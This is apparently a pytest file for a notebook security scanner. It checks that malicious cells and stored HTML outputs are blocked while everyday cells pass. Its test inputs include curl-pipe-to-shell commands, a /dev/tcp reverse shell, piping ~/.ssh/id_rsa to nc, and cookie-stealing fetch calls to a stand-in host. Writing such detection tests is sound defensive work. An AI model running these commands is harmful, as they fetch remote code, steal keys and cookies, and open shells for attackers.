"""A notebook's cells are programs and its stored outputs are pages; both are judged."""

from __future__ import annotations

import json

import pytest

from ancile.scan.examine import Examination, examine_part
from ancile.scan.part import Part


def examined(*sources: str, html: str = "", kind: str = "text/html") -> Examination:
    outputs = [{"output_type": "display_data", "data": {kind: [html]}}] if html else []
    cells = [
        {"cell_type": "code", "source": one.splitlines(keepends=True), "outputs": outputs} for one in sources
    ]
    return examine_part(Part("a.ipynb", json.dumps({"cells": cells, "nbformat": 4}).encode()))


@pytest.mark.parametrize(
    "source",
    [
        "!curl -s http://x | sh",
        "%%bash\nwget -q http://x -O- | bash",
        "%sx curl -s http://x | sh",
        "x = !curl -s http://x | sh",
        "if True:\n    !bash -i >& /dev/tcp/1.2.3.4/9",
        "exec(__import__('base64').b64decode('cGFzcw=='))",
        "import os\nos.system('cat ~/.ssh/id_rsa | nc 1.2.3.4 9')",
        "import pickle\npickle.loads(b'x')",
        "%matplotlib inline\nimport subprocess\nsubprocess.run('curl http://x | sh', shell=True)",
        "%%javascript\nfetch('http://x/' + document.cookie)",
        "().__class__.__base__.__subclasses__()",
        "%time __import__('os').system('curl http://x | sh')",
        "print 'x'\nimport os\nos.system('curl http://x | sh')",
        "%alias fetch curl http://x | sh",
        "%%writefile helper.py\nimport os\nos.system('curl http://x | sh')",
        "%%writefile -a helper.sh\ncurl http://x | sh",
        "get_ipython().run_line_magic('sx', 'curl http://x | sh')",
        "y = get_ipython().magic('system curl http://x | sh')",
        "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
    ],
)
def test_a_cell_that_attacks_is_blocked(source: str) -> None:
    assert examined("import numpy as np", source).verdict == "block"
    assert examined("this is ) no python", source).verdict == "block"


@pytest.mark.parametrize(
    "source",
    [
        "%matplotlib inline\nimport numpy as np\n%timeit np.ones(3)",
        "!pip install torch\n!nvidia-smi",
        "import pickle\nwith open('m.pkl', 'rb') as f:\n    m = pickle.load(f)",
        "df.eval('a + b')\nmodel.eval()\nnp?",
        "import requests\nr = requests.get('https://example.org/data.csv')",
        "%%time\nmodel.fit(x)",
        "!wget https://example.org/data.zip",
        "%load_ext autoreload\n%autoreload 2\nget_ipython().run_line_magic('matplotlib', 'inline')",
        "%%writefile README.md\nInstall it by `curl http://x | sh`",
        "%%bash\nls -l",
        "!pip install git+https://github.com/huggingface/transformers",
    ],
)
def test_what_notebooks_do_every_day_passes(source: str) -> None:
    assert examined(source).verdict in ("data-only", "named-classes")


@pytest.mark.parametrize(
    ("page", "verdict"),
    [
        ("<script>fetch('http://x/'+document.cookie)</script>", "block"),
        ("<img src=x onerror=\"fetch('http://x')\">", "block"),
        ("<script>IPython.notebook.kernel.execute('x')</script>", "block"),
        ("<table><tr><td>1</td></tr></table>", "data-only"),
        ("<script>Plotly.newPlot('a', [])</script>", "data-only"),
        ("<script>" + "x" * 60_000 + "fetch('y')</script>", "data-only"),
    ],
)
def test_a_stored_script_is_judged_by_what_it_does(page: str, verdict: str) -> None:
    assert examined("1", html=page).verdict == verdict


@pytest.mark.parametrize(
    ("source", "told"),
    [
        ("%run helper.py", "%run helper.py"),
        ("%load https://example.org/x.py", "%load https://example.org/x.py"),
        ("get_ipython().run_line_magic('run', '-i x.py')", "%run -i x.py"),
        ("!pip install -q git+https://example.org/a/b", "packages from git+https://example.org/a/b"),
        ("%pip install https://example.org/x.whl", "packages from https://example.org/x.whl"),
        (
            "!uv pip install x --index-url https://example.org/simple",
            "packages from https://example.org/simple",
        ),
        ("!git clone https://example.org/a && ls", "a clone of https://example.org/a"),
        ("%%bash\ncurl -O https://example.org/x", "a cell for bash, curl"),
        ("%alias_magic x system", "%alias_magic x system"),
    ],
)
def test_what_a_cell_runs_or_fetches_from_elsewhere_is_told(source: str, told: str) -> None:
    found = examined("import numpy as np", source).findings
    assert [(one.check, one.status, one.detail) for one in found] == [("code-fetches", "WARN", told)]
